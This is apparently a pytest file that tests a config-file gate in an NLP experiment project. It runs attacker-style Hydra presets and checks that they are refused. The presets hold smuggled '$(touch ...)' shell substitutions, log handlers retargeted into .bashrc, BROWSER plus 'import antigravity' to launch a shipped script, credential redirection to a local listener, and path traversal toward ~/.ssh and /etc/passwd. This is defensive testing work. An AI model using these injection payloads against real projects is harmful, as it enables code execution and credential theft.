"""A config file is data (issue 26, items 1-3): a file that is not the project's own may set the job's settings and a
short list of hydra keys (nlpexp.file_keys.FILE_KEYS); code, environment, logging, storage, endpoints, online modes
and path roots are the person's, and every path a file names stays inside the runs/sweeps/cache roots.

The reproductions are written as an attacker would ship them: presets in a `-cd` config dir, run through
`python run.py` with secrets in the environment and listeners on 127.0.0.1. Each: exit 2, one `error:` line naming
the key and the file, no marker file, nothing received, nothing written where the file pointed.
"""

from __future__ import annotations

import os
import re
import shutil
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest
import yaml

from nlpexp import NlpexpError
from nlpexp.config import CONFIG_DIR, PRESETS_DIR, PROJECT_ROOT
from nlpexp.file_keys import FILE_KEYS, rule_for
from nlpexp.gate import check_command_line
from tests import forkserver

RUN_PY = str(PROJECT_ROOT / "run.py")
SMOKE = ["model=tiny_bert", "debug=smoke"]
TOKEN = "ghp_planted_github_token_4242"


class Listener:
    """A TCP listener on 127.0.0.1 that records every byte any client sends it."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.url = f"http://127.0.0.1:{self.sock.getsockname()[1]}"
        self.received, self._stop = b"", False
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    self.received += conn.recv(65536) or b"<connected>"
                except OSError:
                    self.received += b"<connected>"

    def close(self) -> bytes:
        self._stop = True
        self._thread.join()
        self.sock.close()
        return self.received


@pytest.fixture
def listener():
    server = Listener()
    yield server
    server.close()


def _preset(folder: Path, name: str, body: dict) -> None:
    path = folder / f"{name}.yaml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("# @package _global_\n" + yaml.safe_dump(body))


def _run_py(args: list[str], tmp: Path, data_root: Path, **env: str) -> subprocess.CompletedProcess:
    (tmp / "home").mkdir(exist_ok=True)  # where the presets point (tmp/home/.bashrc): a folder that exists
    # (dryrun: W&B's other name for offline, which transformers does not announce at import: tests/conftest.py)
    # HOME is the test process's, as for the suite's other run.py launches (the presets aim at tmp/home, not at
    # HOME): a HOME of their own would cost these runs a fork server of their own (its imports read HOME: 8 CPU-s)
    environ = {**os.environ, "OMP_NUM_THREADS": "1", "NLPEXP_DATA_DIR": str(data_root),
               "WANDB_MODE": "dryrun", "GITHUB_TOKEN": TOKEN, **env}
    return forkserver.run([sys.executable, RUN_PY, *args], capture_output=True, text=True, timeout=600, cwd=tmp,
                          env=environ)


def _refused(done: subprocess.CompletedProcess, key: str, file: Path) -> None:
    lines = [line for line in (done.stdout + done.stderr).splitlines() if line.strip()]
    assert done.returncode == 2 and len(lines) == 1, done.stdout + done.stderr
    assert lines[0].startswith(f"error: {key} may not be set by a config file or preset: {file} sets it"), lines[0]


def test_journal_storage_into_bashrc_with_shell_in_a_sweep_param(tmp_path, data_root):
    cd, marker = tmp_path / "cd", tmp_path / "MARKER"
    bashrc = tmp_path / "home" / ".bashrc"
    _preset(cd / "hparams_search", "evil", {
        "defaults": [{"override /hydra/sweeper": "nlpexp"}],
        "hydra": {"sweeper": {"storage": f"journal:///{bashrc}", "n_trials": 1,
                              "params": {"+note": f"choice('$(touch {marker})')"}}}})
    done = _run_py(["-m", "-cd", str(cd), "hparams_search=evil", *SMOKE], tmp_path, data_root)
    _refused(done, "hydra.sweeper.storage", cd / "hparams_search" / "evil.yaml")
    assert not bashrc.exists() and not marker.exists()


def test_logging_dot_attributes_cannot_retarget_a_log_file(tmp_path, data_root):
    cd, marker = tmp_path / "cd", tmp_path / "MARKER"
    bashrc = tmp_path / "home" / ".bashrc"
    _preset(cd / "experiment", "evil", {"hydra": {"job_logging": {
        "formatters": {"sh": {"format": f"true $(touch {marker}) # %(message)s"}},
        "handlers": {"file": {"class": "logging.FileHandler", "filename": "x.log", "delay": True, "formatter": "sh",
                              ".": {"baseFilename": str(bashrc)}}}}}})
    done = _run_py(["-cd", str(cd), "experiment=evil", *SMOKE, f"hydra.run.dir={tmp_path / 'run'}"], tmp_path,
                   data_root)
    _refused(done, "hydra.job_logging.formatters.sh.format", cd / "experiment" / "evil.yaml")
    assert not bashrc.exists() and not marker.exists() and not (tmp_path / "run").exists()


def test_env_set_cannot_import_antigravity_with_a_shipped_browser(tmp_path, data_root):
    cd, marker = tmp_path / "cd", tmp_path / "MARKER"
    browser = cd / "browser.sh"
    cd.mkdir()
    browser.write_text(f"#!/bin/sh\ntouch {marker}\n")
    browser.chmod(0o755)
    _preset(cd / "experiment", "evil", {"hydra": {"job": {"env_set": {"LOKY_PICKLER": "antigravity",
                                                                      "BROWSER": str(browser)}}}})
    done = _run_py(["-cd", str(cd), "experiment=evil", *SMOKE], tmp_path, data_root)
    _refused(done, "hydra.job.env_set.BROWSER", cd / "experiment" / "evil.yaml")
    assert not marker.exists()


def test_env_set_cannot_send_the_wandb_key_online(tmp_path, data_root, listener):
    cd = tmp_path / "cd"
    _preset(cd / "experiment", "evil", {"hydra": {"job": {"env_set": {"WANDB_MODE": "online",
                                                                      "WANDB_BASE_URL": listener.url}}}})
    done = _run_py(["-cd", str(cd), "experiment=evil", *SMOKE, "logger=wandb"], tmp_path, data_root,
                   WANDB_API_KEY="planted-wandb-api-key-0123456789abcdef")
    _refused(done, "hydra.job.env_set.WANDB_BASE_URL", cd / "experiment" / "evil.yaml")
    assert listener.close() == b""


def test_a_preset_cannot_name_the_mlflow_server(tmp_path, data_root, listener):
    cd = tmp_path / "cd"
    _preset(cd / "experiment", "evil", {"logger": {"mlflow": {"tracking_uri": listener.url}}})
    done = _run_py(["-cd", str(cd), "experiment=evil", *SMOKE, "logger=mlflow"], tmp_path, data_root,
                   MLFLOW_TRACKING_USERNAME="planted-user", MLFLOW_TRACKING_PASSWORD="planted-password-123")
    _refused(done, "logger.mlflow.tracking_uri", cd / "experiment" / "evil.yaml")
    assert listener.close() == b""


def test_env_set_cannot_launder_a_token_past_redaction(tmp_path, data_root):
    cd = tmp_path / "cd"
    _preset(cd / "experiment", "evil", {"hydra": {"job": {"env_set": {"COPY": "${oc.env:GITHUB_TOKEN}",
                                                                      "GITHUB_TOKEN": "harmless"}}},
                                        "note": "${oc.env:COPY}"})
    done = _run_py(["-cd", str(cd), "experiment=evil", *SMOKE, f"hydra.run.dir={tmp_path / 'run'}"], tmp_path,
                   data_root)
    _refused(done, "hydra.job.env_set.COPY", cd / "experiment" / "evil.yaml")
    assert not (tmp_path / "run").exists()
    assert not [p for p in tmp_path.rglob("*") if p.is_file() and TOKEN.encode() in p.read_bytes()]


def test_the_payloads_are_live(tmp_path):
    """Without the gate these settings do what the attacker wants: the assertions above can fail."""
    marker, bashrc = tmp_path / "MARKER", tmp_path / ".bashrc"
    browser = tmp_path / "browser.sh"
    browser.write_text(f"#!/bin/sh\ntouch {marker}\n")
    browser.chmod(0o755)
    subprocess.run([sys.executable, "-c", "import antigravity"], env={**os.environ, "BROWSER": str(browser)},
                   check=True, timeout=60)
    assert marker.exists()
    config = {"version": 1, "handlers": {"f": {"class": "logging.FileHandler", "filename": str(tmp_path / "x.log"),
                                               "delay": True, ".": {"baseFilename": str(bashrc)}}},
              "root": {"handlers": ["f"], "level": "INFO"}}
    code = f"import logging, logging.config; logging.config.dictConfig({config!r}); logging.info('planted')"
    subprocess.run([sys.executable, "-c", code], check=True, timeout=60)
    assert "planted" in bashrc.read_text()


# ---- the person's own command line still sets all of it ----

@pytest.mark.parametrize("argv", [
    ["+hydra.job.env_set.LOKY_PICKLER=loky", "+hydra.job.env_set.HTTPS_PROXY=http://proxy:3128"],
    ["hydra.run.dir=/srv/elsewhere/run", "paths.ledger_file=/srv/elsewhere/ledger.jsonl"],
    ["logger=mlflow", "logger.mlflow.tracking_uri=http://127.0.0.1:5000"],
    ["logger=wandb", "logger.wandb.mode=online", "logger.wandb.entity=me"],
    ["-m", "hparams_search=sbert_nli", "hydra.sweeper.storage=journal:///tmp/x/journal.log"],
    ["hydra.job_logging.handlers.file.filename=/tmp/x/mine.log"],
], ids=str)
def test_the_person_may_set_them_on_the_command_line(argv):
    check_command_line(argv, RUN_PY, str(CONFIG_DIR), "config")


def test_env_set_and_run_dir_from_the_person_reach_the_run(tmp_path, data_root):
    run = tmp_path / "anywhere" / "mine"
    done = _run_py([*SMOKE, f"hydra.run.dir={run}", f"paths.ledger_file={tmp_path / 'ledger.jsonl'}",
                    "+hydra.job.env_set.NLPEXP_PERSON_NOTE=set-by-the-person", "+note=${oc.env:NLPEXP_PERSON_NOTE}"],
                   tmp_path, data_root)
    assert done.returncode == 0, done.stderr[-3000:]
    assert yaml.safe_load((run / "config.yaml").read_text())["note"] == "set-by-the-person"


# ---- paths a file names stay inside the roots ----

@pytest.mark.parametrize("key,value,ok", [
    ("hydra.run.dir", "${paths.runs_dir}/mine/${now:%H-%M-%S}", True),
    ("hydra.run.dir", "{tmp}/elsewhere", False),
    ("hydra.run.dir", "${paths.runs_dir}/../../escape", False),
    ("hydra.run.dir", "${paths.runs_dir}/${oc.env:HOME}", False),
    ("hydra.run.dir", "${paths.runs_dir}/${now:/../../escape}", False),
    ("hydra.run.dir", "{runs}/mine", True),
    ("hydra.sweep.subdir", "trial_${hydra.job.num}", True),
    ("hydra.sweep.subdir", "../../escape", False),
    ("logger.tensorboard.log_dir", "${paths.output_dir}/tb", True),
    ("logger.tensorboard.log_dir", "{tmp}/.config/autostart", False),
    ("task.cache_dir", "${paths.cache_dir}/mine", True),
    ("task.cache_dir", "{tmp}/cache", False),
    ("paths.runs_dir", "{tmp}", False),
    ("logger.tensorboard.serve", True, False),
    ("logger.tensorboard.host", "0.0.0.0", False),
    # what a run reads: from the data root only (a preset could train on ~/.ssh and copy it into predictions)
    ("data.root", "${paths.data_dir}", True),
    ("data.root", "${paths.data_dir}/../../home", False),
    ("data.root", "{tmp}/elsewhere", False),
    ("data.train", "{tmp}/.ssh/id_rsa.csv", False),
    ("task.sts.root", "{tmp}", False),
    ("data.splits.train", ["snli/train"], True),
    ("data.splits.train", ["../../../etc/passwd"], False),
    ("data.splits.train", ["/etc/passwd"], False),
], ids=str)
def test_what_a_file_names_stays_inside_the_roots(key, value, ok, tmp_path, monkeypatch):
    runs = tmp_path / "runs"
    monkeypatch.setenv("NLPEXP_RUNS_DIR", str(runs))
    if isinstance(value, str):
        value = value.replace("{tmp}", str(tmp_path)).replace("{runs}", str(runs))
    body: dict = {}
    node = body
    *parents, last = key.split(".")
    for part in parents:
        node = node.setdefault(part, {})
    node[last] = value
    _preset(tmp_path / "cd" / "experiment", "p", body)
    _gate_passes_or_refuses(["-cd", str(tmp_path / "cd"), "experiment=p"], ok,
                            rf"^{re.escape(key)} may not be set by a config file or preset: ")


def test_a_saved_config_may_repeat_the_projects_paths_but_not_change_them(tmp_path):

    from nlpexp.config import compose
    from nlpexp.observers import saved_config

    body = saved_config(compose(["paths.output_dir=null"]))  # what a run writes as its config.yaml
    body["paths"]["output_dir"] = "${hydra:runtime.output_dir}"  # (a run has its dir: that stays as written)
    (tmp_path / "config.yaml").write_text(yaml.safe_dump(body))
    argv = ["--config-path", str(tmp_path), "--config-name", "config"]
    check_command_line(argv, RUN_PY, str(CONFIG_DIR), "config")
    body["paths"]["ledger_file"] = str(tmp_path / ".bashrc")
    (tmp_path / "config.yaml").write_text(yaml.safe_dump(body))
    with pytest.raises(NlpexpError, match=rf"^paths\.ledger_file may not be set .*{tmp_path}/config\.yaml sets"):
        check_command_line(argv, RUN_PY, str(CONFIG_DIR), "config")
    check_command_line([*argv, f"paths.ledger_file={tmp_path / 'mine.jsonl'}"], RUN_PY, str(CONFIG_DIR), "config")


def test_the_bundled_presets_pass_from_a_config_dir(tmp_path):
    """What the project ships under conf/hparams_search and experiments/ needs nothing a foreign file may not set."""
    cd = tmp_path / "cd"
    for group, folder in (("hparams_search", CONFIG_DIR / "hparams_search"), ("experiment", PRESETS_DIR)):
        (cd / group).mkdir(parents=True)
        for preset in sorted(folder.glob("*.yaml")):
            shutil.copy(preset, cd / group / f"copy_{preset.name}")
            multirun = ["-m"] if group == "hparams_search" else []
            check_command_line([*multirun, "-cd", str(cd), f"{group}=copy_{preset.stem}"], RUN_PY, str(CONFIG_DIR),
                               "config")


# ---- the table classifies every key ----

def _schema_keys(node, prefix: str):
    from nlpexp.rules import ByTarget, Group, MapOf, Maybe

    if isinstance(node, Maybe):
        yield from _schema_keys(node.rule, prefix)
    elif isinstance(node, MapOf) and isinstance(node.value, Group | ByTarget | Maybe):
        yield from _schema_keys(node.value, f"{prefix}.*")
    elif isinstance(node, ByTarget):
        for group in (*node.groups.values(), node.other):
            yield from _schema_keys(group, prefix)
    elif isinstance(node, Group):
        for key, rule in node.fields.items():
            full = f"{prefix}.{key}" if prefix else key
            yield full
            yield from _schema_keys(rule, full)


def _explicit(key: str) -> bool:
    """Some pattern of the table (not the fallback for keys of one's own) matches `key` or a parent."""
    parts = key.split(".")
    return any(all(w in ("*", p) for w, p in zip(pattern.split("."), parts, strict=False))
               and len(pattern.split(".")) <= len(parts) for pattern in FILE_KEYS)


_WHERE_OR_WHO = re.compile(r"(_dir|\.dir|_file|uri|url|storage|host|serve|entity|trust_remote_code|"
                           r"allow_pickle_weights|env_set|env_copy|logging|callbacks|searchpath)$")


def test_every_schema_key_is_classified_and_no_place_or_endpoint_is_free():
    from nlpexp.schema import ROOT

    keys = [key for key in _schema_keys(ROOT, "") if key != "hydra"]  # its keys are classified one by one
    assert len(keys) > 100 and "logger.*.tracking_uri" in keys and "hydra.sweeper.storage" in keys
    assert [k for k in keys if not _explicit(k)] == []
    free = [k for k in keys if _WHERE_OR_WHO.search(k) and rule_for(k).who == "file" and rule_for(k).allows is None]
    assert free == [], "a place, endpoint or switch a file may set to anything"


@pytest.mark.parametrize("overrides", [
    [], ["hparams_search=sbert_nli"], ["hparams_search=model_comparison", "hydra/launcher=slurm",
                                       "hydra/sweeper/pruner=median"],
    ["hydra/launcher=parallel", "hparams_search=embedding_ablation"], ["logger=[tensorboard,wandb,mlflow]"],
], ids=str)
def test_every_key_of_the_composed_hydra_node_is_classified(overrides):
    from hydra import compose, initialize_config_dir

    from nlpexp.gate import _leaves

    with initialize_config_dir(config_dir=str(CONFIG_DIR)):
        cfg = compose("config", overrides=overrides, return_hydra_config=True)
    keys = [key for key, _ in _leaves(cfg, "")]
    assert len([k for k in keys if k.startswith("hydra.")]) > 50
    assert [k for k in keys if rule_for(k) is None or not _explicit(k)] == []


@pytest.mark.parametrize("name,ok", [("shared-study_1", True), ("../../../home/me/.config", False)], ids=str)
def test_a_study_name_from_a_file_is_a_plain_name(name, ok, tmp_path):
    _preset(tmp_path / "cd" / "hparams_search", "p", {"defaults": [{"override /hydra/sweeper": "nlpexp"}],
                                                      "hydra": {"sweeper": {"study_name": name}}})
    _gate_passes_or_refuses(["-m", "-cd", str(tmp_path / "cd"), "hparams_search=p"], ok,
                            r"^hydra\.sweeper\.study_name may not be set .* a name of letters")


def test_files_found_through_a_search_path_are_foreign_and_a_foreign_primary_cannot_add_one(tmp_path):
    extra, marker = tmp_path / "extra", tmp_path / "MARKER"
    _preset(extra / "experiment", "evil", {"hydra": {"job": {"env_set": {"BASH_ENV": str(marker)}}}})
    with pytest.raises(NlpexpError, match=rf"^hydra\.job\.env_set\.BASH_ENV may not be set .*{extra}/experiment/evil"):
        check_command_line([f"hydra.searchpath=[file://{extra}]", "experiment=evil"], RUN_PY, str(CONFIG_DIR),
                           "config")
    primary = tmp_path / "primary"
    primary.mkdir()
    (primary / "config.yaml").write_text(yaml.safe_dump({"defaults": ["_self_"], "hydra": {
        "searchpath": [f"file://{extra}"]}}))
    with pytest.raises(NlpexpError, match=rf"^hydra\.searchpath may not be set .*{primary}/config\.yaml"):
        check_command_line(["-cp", str(primary), "-cn", "config"], RUN_PY, str(CONFIG_DIR), "config")


def test_a_file_cannot_bring_a_person_key_in_through_a_node_interpolation(tmp_path, listener):
    _preset(tmp_path / "cd" / "experiment", "p", {"mine": {"_target_": "nlpexp.logger.MlflowLogger",
                                                           "tracking_uri": listener.url, "run_dir": "x",
                                                           "experiment": "x"},
                                                  "logger": {"mlflow": "${mine}"}})
    with pytest.raises(NlpexpError, match=r"^logger\.mlflow may not be set .* interpolate, or give positional "
                                          r"arguments to, a whole node that holds "
                                          r"logger\.\*\.(tracking_uri|log_dir|dir|run_dir)"):
        check_command_line(["-cd", str(tmp_path / "cd"), "experiment=p"], RUN_PY, str(CONFIG_DIR), "config")


def test_a_file_cannot_hide_what_it_sweeps_behind_an_interpolation(tmp_path):
    _preset(tmp_path / "cd" / "hparams_search", "p", {
        "defaults": [{"override /hydra/sweeper": "nlpexp"}], "mine": {"logger.mlflow.tracking_uri": "choice(x)"},
        "hydra": {"sweeper": {"params": "${mine}"}}})
    with pytest.raises(NlpexpError, match=r"^hydra\.sweeper\.params may not be set .* not as an interpolation"):
        check_command_line(["-m", "-cd", str(tmp_path / "cd"), "hparams_search=p"], RUN_PY, str(CONFIG_DIR), "config")


def test_choosing_a_group_on_the_command_line_does_not_make_a_files_value_the_persons(tmp_path):
    _preset(tmp_path / "cd" / "experiment", "p", {"mine": {"trust_remote_code": True}, "model": "${mine}"})
    with pytest.raises(NlpexpError, match=r"^model may not be set by a config file or preset: "):
        check_command_line(["-cd", str(tmp_path / "cd"), "experiment=p", "model=tiny_bert"], RUN_PY, str(CONFIG_DIR),
                           "config")


@pytest.mark.parametrize("where", ["command line", "params"])
def test_every_option_of_a_glob_sweep_is_checked_before_the_sweep(where, tmp_path):
    cd = tmp_path / "cd"
    (cd / "model").mkdir(parents=True)
    (cd / "model" / "zz_evil.yaml").write_text(yaml.safe_dump({**yaml.safe_load(
        (CONFIG_DIR / "model" / "tiny_bert.yaml").read_text()), "trust_remote_code": True}))
    _preset(cd / "hparams_search", "p", {"defaults": [{"override /hydra/sweeper": "nlpexp"}],
                                         "hydra": {"sweeper": {"params": {"model": "glob(*)"}}}})
    sweep = "model=glob([tiny_bert,zz_*])" if where == "command line" else "hparams_search=p"
    argv = ["-m", "-cd", str(cd), sweep]
    with pytest.raises(NlpexpError, match=rf"^model\.trust_remote_code may not be set .*{cd}/model/zz_evil\.yaml"):
        check_command_line(argv, RUN_PY, str(CONFIG_DIR), "config")


def _gate_passes_or_refuses(argv: list[str], ok: bool, refusal: str) -> None:
    """run.py's gate accepts `argv` (ok) or refuses it with one line matching `refusal`."""
    if ok:
        check_command_line(argv, RUN_PY, str(CONFIG_DIR), "config")
    else:
        with pytest.raises(NlpexpError, match=refusal):
            check_command_line(argv, RUN_PY, str(CONFIG_DIR), "config")
